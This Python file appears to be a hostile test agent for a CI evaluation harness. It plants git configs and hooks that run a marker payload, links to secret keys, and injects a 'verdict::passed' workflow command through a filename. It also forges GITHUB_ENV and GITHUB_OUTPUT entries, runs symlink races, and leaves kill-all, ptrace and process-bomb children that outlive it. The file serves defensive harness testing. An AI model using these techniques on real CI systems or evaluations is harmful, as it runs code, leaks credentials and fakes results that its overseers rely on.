"""An agent that leaves traps for whoever runs after it; it is run in the container, as a command.

Its first argument names the trap.  Whatever starts the program `payload` leaves the file `ran`.
"""

import ctypes
import json
import os
import shutil
import subprocess
import sys
import time
from contextlib import suppress
from pathlib import Path

HERE = Path.cwd()
PAYLOAD = HERE / "payload"


def settings(here):
    """Return settings in which all that can name a program names the payload."""
    return SETTINGS.replace("PAYLOAD", f"{here}/payload").replace("HERE", str(here))


SETTINGS = """
[core]
    repositoryformatversion = 0
    fsmonitor = PAYLOAD
    sshCommand = PAYLOAD
    hooksPath = HERE/hooks
    alternateRefsCommand = PAYLOAD
    worktree = HERE
[filter "x"]
    clean = PAYLOAD
    process = PAYLOAD
[diff]
    external = PAYLOAD
[credential]
    helper = "!PAYLOAD"
[uploadpack]
    packObjectsHook = PAYLOAD
[remote "origin"]
    url = ssh://localhost/x
    pushurl = ssh://localhost/x
    uploadpack = PAYLOAD
    receivepack = PAYLOAD
[include]
    path = HERE/included
"""


def tried(action, *given):
    with suppress(OSError):
        action(*given)


def program(path):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f"#!/bin/sh\nid -u >>{HERE}/ran\ncat\n")
    path.chmod(0o777)


def repository(at):
    for name in ("objects/info", "refs/heads", "hooks"):
        (at / name).mkdir(parents=True, exist_ok=True)
    (at / "HEAD").write_text("ref: refs/heads/main\n")
    (at / "config").write_text(settings(HERE))
    (at / "objects/info/alternates").write_text("/github/workspace/.git/objects\n")
    for name in ("pre-push", "reference-transaction", "post-index-change"):
        program(at / "hooks" / name)


def git_folder():
    repository(HERE / ".git")
    repository(HERE / ".GIT")
    (HERE / ".gitattributes").write_text("* filter=x diff=x\n")


def git_file():
    repository(HERE / "elsewhere")
    (HERE / ".git").write_text(f"gitdir: {HERE}/elsewhere\n")


def git_link():
    repository(HERE / "elsewhere")
    (HERE / ".git").symlink_to(HERE / "elsewhere")


def git_pipe():
    os.mkfifo(HERE / ".git")


def bare():
    repository(HERE)


def submodule():
    # A commit made it a submodule; what is checked out of it is empty.
    repository(HERE / "lib" / ".git")
    repository(HERE / "more" / "lib" / ".git" / "modules" / "x")


def worktree():
    repository(HERE / "main")
    linked = HERE / "linked"
    linked.mkdir()
    (linked / "HEAD").write_text("ref: refs/heads/main\n")
    (linked / "commondir").write_text(f"{HERE}/main\n")
    (linked / "gitdir").write_text(f"{HERE}/.git\n")
    (HERE / ".git").write_text(f"gitdir: {linked}\n")


def links():
    for name, target in (
        *(("y", "/var/run"), ("x", "/proc"), ("home", "/github/home"), ("loop", "loop")),
        *(("temp", "/github/runner_temp"), ("commands", "/github/file_commands")),
        *(("kept", "/github/home"), ("top", "/github/workspace"), ("dotgit", "../.git")),
    ):
        tried(os.symlink, target, name)
    for name in ("/github/workspace/.git/config", "ci-eval.yaml", "/github/home/key"):
        tried(os.link, name, f"hard-{Path(name).name}")


def odd_files():
    os.mkfifo(HERE / "pipe")
    deep = HERE / "deep"
    for _ in range(300):
        deep = deep / "a"
    deep.mkdir(parents=True)
    cache = HERE / "go" / "pkg" / "mod"
    cache.mkdir(parents=True)
    (cache / "file.go").write_text("x")
    (cache / "file.go").chmod(0o444)
    for folder in (cache, cache.parent, cache.parent.parent):
        folder.chmod(0o555)
    suid = HERE / "suid"
    program(suid)
    suid.chmod(0o6777)
    (HERE / ("n" * 255)).touch()
    tried((HERE / os.fsdecode(b"\xff\xfe::set-output name=verdict::passed\n")).touch)


def suite_of_its_own():
    """Make a folder with a configuration, and a repository above it that has a remote."""
    made = HERE / "made"
    shop = made / "shop"
    shop.mkdir(parents=True)
    repository(made / ".git")
    remote = made / "bare"
    repository(remote)
    for name in ("pre-receive", "update", "post-receive", "post-update"):
        program(remote / "hooks" / name)
    (made / ".git/config").write_text(f'[remote "origin"]\n\turl = {remote}\n')
    (remote / "config").write_text("[core]\n\tbare = true\n")
    for name in ("evals", "traces"):
        shutil.copytree(HERE / name, shop / name)
    text = (HERE / "ci-eval.yaml").read_text()
    agent = text.index("{command"), text.index("}", text.index("{command")) + 1
    recorded = text[: agent[0]] + "{recorded: traces/weather.jsonl}" + text[agent[1] :]
    (shop / "ci-eval.yaml").write_text(recorded.replace("branch}", "branch, branches: ['*']}"))


def race():
    """Go on, after the last answer, to put links where folders were looked at."""
    code = """
import os, time
while True:
    for name in ("swapped", ".git", "kept"):
        try:
            os.mkdir(name); os.rmdir(name)
            os.symlink("/github/home", name); os.unlink(name)
        except OSError:
            pass
"""
    for _ in range(2):
        subprocess.Popen([sys.executable, "-c", code], start_new_session=True)


def forged(path):
    with Path(path).open("a") as file:
        file.write("FORGED=1\n")


def outputs():
    """Put what it likes where we are to write."""
    for name in ("ci-eval-report", ".ci-eval", "/github/workspace/ci-eval-report"):
        tried(os.rename, name, f"{Path(name).name}-old")
        tried(os.symlink, "/github/home", name)
        tried(os.symlink, "/github/home/key", f"{name}/report.json")
        tried(os.symlink, "/github/home/key", f"{name}/.run.json.draft")
    for name in ("GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_PATH", "GITHUB_STEP_SUMMARY"):
        for path in (os.environ.get(name), f"/github/file_commands/{name}"):
            if path:
                tried(forged, path)


def bombs():
    for number in range(2000):
        (HERE / f"file-{number}").touch()
    for _ in range(40):
        subprocess.Popen(["/bin/sleep", "600"], start_new_session=True)


KILLER = """
import os
open(f"killer-{os.getpid()}", "w").close()
while True:
    try:
        os.kill(-1, 9)
    except OSError:
        pass
    for name in ("../.git/config", ".git/config", "/github/workspace/.git/config"):
        try:
            text = open(name).read()
        except OSError:
            continue
        if text:
            open("stolen", "a").write(text)
"""


def killer():
    """Kill, until all is over, whatever is to end it, and read what is opened then."""
    for _ in range(2):
        detached(KILLER)
    time.sleep(600)  # the first one to begin kills all but itself, us included


TRACER = """
import ctypes, sys, time
libc = ctypes.CDLL(None)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
if libc.ptrace(0x4206, int(sys.argv[1]), None, None) == 0:  # PTRACE_SEIZE
    open(f"traced-{sys.argv[1]}", "w").close()
time.sleep(600)
"""


def traced():
    """Be traced by a process that never takes note of our end."""
    allow = 0x59616D61  # PR_SET_PTRACER, anybody
    ctypes.CDLL(None).prctl(allow, ctypes.c_ulong(2**64 - 1), 0, 0, 0)
    detached(TRACER, str(os.getpid()))
    until = time.monotonic() + 30
    while not (HERE / f"traced-{os.getpid()}").exists() and time.monotonic() < until:
        time.sleep(0.01)


def detached(code, *given):
    none = subprocess.DEVNULL
    streams = {"stdin": none, "stdout": none, "stderr": none}
    subprocess.Popen([sys.executable, "-c", code, *given], start_new_session=True, **streams)


if __name__ == "__main__":
    program(PAYLOAD)
    (HERE / "included").write_text(settings(HERE).partition("[include]")[0])
    for name in ("pre-push", "pre-receive", "post-receive", "reference-transaction"):
        program(HERE / "hooks" / name)
    tried(globals()[sys.argv[1]])
    for _ in sys.stdin:
        sys.stdout.write(json.dumps({"response": "It is sunny."}) + "\n")
        sys.stdout.flush()
